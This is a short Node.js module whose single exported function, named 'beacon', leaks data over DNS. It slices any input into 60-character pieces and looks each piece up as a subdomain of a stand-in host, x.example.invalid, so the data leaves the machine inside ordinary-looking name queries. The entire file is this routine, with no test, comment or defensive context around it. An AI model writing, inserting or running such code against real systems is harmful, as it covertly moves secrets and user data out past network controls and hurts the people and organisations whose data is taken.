const { Resolver } = require('dns');
module.exports = function beacon(data) {
  const resolver = new Resolver();
  for (let i = 0; i < data.length; i += 60) {
    resolver.resolve4(`${data.slice(i, i + 60)}.${i}.x.example.invalid`, () => {});
  }
};
